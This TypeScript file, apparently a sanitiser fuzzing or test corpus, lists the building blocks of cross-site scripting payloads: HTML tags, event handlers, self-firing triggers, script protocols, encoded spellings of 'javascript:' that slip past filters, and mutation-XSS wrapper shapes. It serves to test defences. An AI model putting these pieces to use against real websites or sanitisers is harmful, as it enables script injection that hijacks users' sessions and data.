/*
 * What attacks on HTML are put together from: the elements, attributes and shapes that browsers
 * and sanitisers are known to have stumbled over.
 */

export const TAGS = (
  'a area article audio b base body br button canvas circle details dialog div embed font ' +
  'foreignObject form frameset h1 html iframe image img input isindex keygen label li link ' +
  'marquee math menu meta meter nav noembed object option p picture pre progress select ' +
  'slot source span summary svg table td template textarea title track ul use video xss ' +
  'x-card astro-island set animate animateTransform mtext annotation-xml IMG sVg ' +
  'fencedframe'
).split(' ');

export const EVENTS = [
  ...(
    'onerror onload onfocus onfocusin onclick onmouseover onpointerenter ontoggle ' +
    'onbeforetoggle onbegin onend onrepeat onpageshow onscroll onanimationstart ' +
    'ontransitionend onloadstart oncanplay onstart onresize onbeforematch onscrollsnapchange ' +
    'oncontentvisibilityautostatechange ONERROR oNlOaD formaction style'
  ).split(' '),
  'on\0load',
  'onerror ',
  '&#111;nerror',
];

/** What makes an event happen without anybody. */
export const TRIGGERS = [
  ...(
    'src=x src open href=x srcdoc=x data=x id=x popover hidden=until-found attributename=href ' +
    'style=animation-name:x srcset=x src=//canary.example/i class=fixed is=x-card slot=x ' +
    'name=body id=__proto__'
  ).split(' '),
  'autofocus tabindex=1',
  'contenteditable autofocus',
  'style="content-visibility:auto"',
  'begin=0s dur=1s',
];

export const URL_ATTRIBUTES = (
  'href src action formaction xlink:href data srcdoc background poster srcset ping cite ' +
  'manifest longdesc code codebase lowsrc dynsrc values to from content profile usemap ' +
  'style xml:base HREF imagesrcset'
).split(' ');

export const PROTOCOLS = (
  'javascript: JaVaScRiPt: vbscript: data:text/html, livescript: blob: ' +
  'view-source:javascript: feed:javascript: jar:javascript: filesystem: mocha:'
).split(' ');

const reference = (write: (code: number) => string) => (text: string) =>
  [...text].map((letter) => write(letter.codePointAt(0) ?? 0)).join('');

/** Spellings of a protocol that browsers read as it is. */
export const DISGUISES: ((protocol: string) => string)[] = [
  (protocol) => protocol,
  reference((code) => `&#${code};`),
  reference((code) => `&#${String(code).padStart(7, '0')}`),
  reference((code) => `&#x${code.toString(16)};`),
  reference((code) => `&#X${code.toString(16).padStart(6, '0')}`),
  reference((code) => `%${code.toString(16).padStart(2, '0')}`),
  reference((code) => `\\u${code.toString(16).padStart(4, '0')}`),
  reference((code) => String.fromCodePoint(code < 0x7f ? code + 0xfee0 : code)),
  (protocol) => protocol.replace(':', '&colon;'),
  (protocol) => protocol.replace('s', '&Tab;s'),
  (protocol) => protocol.replace('s', '&NewLine;s'),
  (protocol) => protocol.replace('a', 'a\t').replace('r', '\nr'),
  (protocol) => protocol.replace('a', 'a\0'),
  (protocol) => `\u0001\u001f ${protocol}`,
  (protocol) => ` &#14;  ${protocol}`,
  (protocol) => `\u00a0\u200b\ufeff${protocol}`,
  (protocol) => `url(${protocol}`,
  (protocol) => `1x, ${protocol}`,
  (protocol) => `0;url=${protocol}`,
];

/** Shapes whose meaning changes when they are printed and read again; `HOLE` is what they hide. */
export const HOLES = [
  '<noscript><p title="</noscript>HOLE">',
  '<style><style/>HOLE',
  '<svg></p><style><a id="</style>HOLE">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;HOLE">',
  '<form><math><mtext></form><form><mglyph><style></math>HOLE',
  '<math><annotation-xml encoding="text/html"><xmp><p title="</xmp>HOLE">',
  '<svg><desc><noembed><p id="</noembed>HOLE">',
  '<svg><title><textarea></title>HOLE',
  '<svg><![CDATA[HOLE]]></svg>',
  '<svg><style>&lt;/style&gt;HOLE',
  '<xmp><a title="</xmp>HOLE"></xmp>',
  '<title><a href="</title>HOLE">',
  '<textarea><b title="</textarea>HOLE">',
  '<iframe><p id="</iframe>HOLE">',
  '<noframes><p id="</noframes>HOLE">',
  '<plaintext>HOLE',
  '<listing>&lt;img src=x onerror=__ran()&gt;HOLE</listing>',
  '<select><template><p>HOLE</template></select>',
  '<select><option><style></select>HOLE</style>',
  '<template shadowrootmode=open>HOLE</template>',
  '<template><table><tr><td>HOLE',
  '<table><tr><td><svg><desc></table>HOLE',
  '<table><caption><select>HOLE</table>',
  '<a><table><a>HOLE</table></a>',
  '<b><p><b><a><nobr><nobr>HOLE</b></p></a>',
  '<!--><p title="-->HOLE">',
  '<!-->HOLE-->',
  '<!--->HOLE<!-- -->',
  '<!-- --!>HOLE',
  '<!--<!---->HOLE-->',
  '<?php HOLE ?>',
  '<!ENTITY x "HOLE">',
  '<![endif]--><!--[if gte IE 4]>HOLE<![endif]-->',
  '</p>HOLE<p>',
  '</br title="HOLE">',
  '<div id=body><form name=attributes><input name=parentNode>HOLE</form></div>',
  '<form id=x></form><button form=x>HOLE</button>',
  '<p title="HOLE',
  "<p title='HOLE",
  '<p HOLE',
  `${'<div>'.repeat(120)}HOLE`,
  `${'<b>'.repeat(12)}<p>HOLE`,
  '<a href="https://a.example/">HOLE</a>',
  '<td>HOLE<th scope=x>',
  '<dl><dt><figure>HOLE',
  '<object data=x><param name=src value="HOLE"></object>',
  '<svg><use href="data:image/svg+xml,HOLE#x"/></svg>',
  '<svg><foreignObject><math><mi><p>HOLE',
  '<math href="javascript:__ran()">HOLE</math>',
  '<style>*{background:url("HOLE")}</style>',
  '<link rel=stylesheet href="data:,HOLE">',
  '<meta http-equiv=refresh content="0;url=javascript:__ran()">HOLE',
  '<base href=//canary.example/>HOLE',
];
